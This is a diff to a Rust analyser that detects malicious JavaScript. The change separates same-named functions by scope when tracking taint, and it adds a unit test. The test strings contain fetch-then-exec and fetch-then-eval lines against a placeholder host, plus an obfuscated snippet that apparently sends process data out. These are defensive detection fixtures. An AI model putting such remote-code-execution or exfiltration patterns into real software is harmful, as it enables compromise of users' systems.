@@ -108,6 +108,9 @@ struct SinkObj {
 
 #[derive(Debug, Default)]
 struct Scope {
+    /// Where the function that opened the scope starts (0 for the module):
+    /// with a name, it tells same-named functions of different scopes apart.
+    id: u32,
     declared: HashSet<String>,
     strings: HashMap<String, String>,
     /// Strings with unknown parts (`*`), for classification only.
@@ -120,6 +123,9 @@ struct Scope {
     decoders: HashMap<String, &'static str>,
     sinks: HashMap<String, SinkObj>,
 }
+
+/// A local function: the id of the scope that declares it, and its name.
+type FnKey = (u32, String);
 
 /// Analyses one JS/TS file.
 pub(crate) fn analyse(path: &str, source: &str, kind: JsKind) -> JsFileResult {
@@ -196,6 +202,12 @@ pub(crate) fn analyse(path: &str, source: &str, kind: JsKind) -> JsFileResult {
         v.scopes[0].declared = hoisted.declared;
         v.seeded = seeds;
         v.known_decoder_fns = decoders;
+        for ((_, name), t) in &returns {
+            v.known_returns_by_name
+                .entry(name.clone())
+                .and_modify(|e| *e = None)
+                .or_insert(Some(*t));
+        }
         v.known_fn_returns = returns;
         v.visit_program(&ret.program);
     }
@@ -260,7 +272,7 @@ struct Analyzer<'s> {
     /// Name of the variable a function expression is being assigned to.
     pending_fn_name: Option<String>,
     /// Names of the local functions being visited, innermost last.
-    fn_stack: Vec<Option<String>>,
+    fn_stack: Vec<Option<FnKey>>,
     /// Local functions whose bodies decode (base64, hex, char codes,
     /// deciphers): calling one yields decoded data.
     decoder_fns: HashSet<String>,
@@ -269,9 +281,14 @@ struct Analyzer<'s> {
     known_decoder_fns: HashSet<String>,
     /// A dynamic-code sink received the result of a local function call.
     eval_of_local_call: bool,
-    /// Taint of what local functions return, by name (this pass and the last).
-    fn_returns: HashMap<String, Taint>,
-    known_fn_returns: HashMap<String, Taint>,
+    /// Taint of what local functions return, by declaring scope and name
+    /// (this pass and the last). Minified bundles reuse short names in every
+    /// module, so a name alone would join unrelated functions.
+    fn_returns: HashMap<FnKey, Taint>,
+    known_fn_returns: HashMap<FnKey, Taint>,
+    /// Returns of the last pass by name alone, for calls whose declaration
+    /// is not in scope yet (hoisting); `None` when the name is ambiguous.
+    known_returns_by_name: HashMap<String, Option<Taint>>,
     /// Recovered obfuscator string arrays and their decoder functions.
     tables: Option<std::rc::Rc<StringArrays>>,
 }
@@ -306,6 +323,7 @@ impl<'s> Analyzer<'s> {
             eval_of_local_call: false,
             fn_returns: HashMap::new(),
             known_fn_returns: HashMap::new(),
+            known_returns_by_name: HashMap::new(),
             tables: None,
         }
     }
@@ -357,6 +375,25 @@ impl<'s> Analyzer<'s> {
         match self.scope_of(name) {
             Some(s) => s.modules.get(name),
             None => None,
+        }
+    }
+
+    /// What a call of the local function `name` returns: the function the
+    /// name resolves to in scope, or, when it is not declared yet, the one
+    /// function of that name the last pass saw.
+    fn returns_of(&self, name: &str) -> Taint {
+        match self.scope_of(name) {
+            Some(s) => {
+                let key = (s.id, name.to_owned());
+                self.fn_returns.get(&key).copied().unwrap_or(0)
+                    | self.known_fn_returns.get(&key).copied().unwrap_or(0)
+            }
+            None => self
+                .known_returns_by_name
+                .get(name)
+                .copied()
+                .flatten()
+                .unwrap_or(0),
         }
     }
 
@@ -1079,8 +1116,7 @@ impl<'s> Analyzer<'s> {
                 }
                 if let Expression::Identifier(id) = call.callee.get_inner_expression() {
                     let n = id.name.as_str();
-                    t |= self.fn_returns.get(n).copied().unwrap_or(0)
-                        | self.known_fn_returns.get(n).copied().unwrap_or(0);
+                    t |= self.returns_of(n);
                 }
                 if is_sysinfo_api(&name) || is_process_api(&name) || name == "process.cwd" {
                     t |= SYSINFO;
@@ -1638,7 +1674,7 @@ impl<'s> Analyzer<'s> {
             }
         }
         if decode_kind(&name, call, self).is_some() {
-            for n in self.fn_stack.iter().flatten() {
+            for (_, n) in self.fn_stack.iter().flatten() {
                 if self.decoder_fns.len() < 1024 {
                     self.decoder_fns.insert(n.clone());
                 }
@@ -2316,11 +2352,11 @@ impl<'a> Visit<'a> for Analyzer<'_> {
     }
 
     fn visit_return_statement(&mut self, it: &ReturnStatement<'a>) {
-        if let (Some(arg), Some(Some(name))) = (&it.argument, self.fn_stack.last()) {
+        if let (Some(arg), Some(Some(key))) = (&it.argument, self.fn_stack.last()) {
             let t = self.taint(arg, 0);
             if t != 0 {
-                let name = name.clone();
-                *self.fn_returns.entry(name).or_default() |= t;
+                let key = key.clone();
+                *self.fn_returns.entry(key).or_default() |= t;
             }
         }
         walk::walk_return_statement(self, it);
@@ -2420,8 +2456,12 @@ impl<'a> Visit<'a> for Analyzer<'_> {
             .as_ref()
             .map(|id| id.name.to_string())
             .or_else(|| self.pending_fn_name.take());
-        self.scopes.push(Scope::default());
-        self.fn_stack.push(fn_name.clone());
+        let key = fn_name.clone().map(|n| (self.scopes[self.scopes.len() - 1].id, n));
+        self.scopes.push(Scope {
+            id: it.span.start,
+            ..Scope::default()
+        });
+        self.fn_stack.push(key);
         self.taint_params(&it.params, taint);
         self.apply_seeds(fn_name.as_deref(), &it.params);
         walk::walk_function(self, it, flags);
@@ -2436,15 +2476,19 @@ impl<'a> Visit<'a> for Analyzer<'_> {
             .copied()
             .unwrap_or(0);
         let fn_name = self.pending_fn_name.take();
-        self.scopes.push(Scope::default());
-        self.fn_stack.push(fn_name.clone());
+        let key = fn_name.clone().map(|n| (self.scopes[self.scopes.len() - 1].id, n));
+        self.scopes.push(Scope {
+            id: it.span.start,
+            ..Scope::default()
+        });
+        self.fn_stack.push(key.clone());
         self.taint_params(&it.params, taint);
         self.apply_seeds(fn_name.as_deref(), &it.params);
         walk::walk_arrow_function_expression(self, it);
-        if let (Some(body), Some(name)) = (it.body.as_expression(), &fn_name) {
+        if let (Some(body), Some(key)) = (it.body.as_expression(), key) {
             let t = self.taint(body, 0);
             if t != 0 {
-                *self.fn_returns.entry(name.clone()).or_default() |= t;
+                *self.fn_returns.entry(key).or_default() |= t;
             }
         }
         self.fn_stack.pop();
@@ -3206,6 +3250,22 @@ got[_0xw(0x0,0x13)](_0xd(0x12),{json:process[_0xd(0x11)]});
             "const { exec } = require('child_process');\nfetch('https://x.invalid/a').then((r) => r.text()).then((d) => exec(d));",
         );
         assert_eq!(f.decode_run[0].decoder, "remote");
+    }
+
+    #[test]
+    fn same_named_functions_of_different_modules_stay_apart() {
+        // Bundled modules each have their own `l`; only the first one
+        // returns a response body.
+        let bundled = "function m1(){ const l = () => fetch('https://x.invalid/a'); return l; }\n\
+                       function m2(){ const l = () => 'x = 1'; const c = l(); eval(c); }";
+        assert!(facts(bundled).decode_run.is_empty());
+        // The same function called from its own module, or a module-level
+        // one from inside another function, still counts.
+        let one = "function m1(){ const l = () => fetch('https://x.invalid/a'); eval(l()); }\n\
+                   function get(){ return fetch('https://x.invalid/b'); }\nfunction main(){ eval(get()); }";
+        let runs = facts(one).decode_run;
+        assert_eq!(runs.len(), 2, "{runs:?}");
+        assert!(runs.iter().all(|d| d.decoder == "remote"));
     }
 
     #[test]
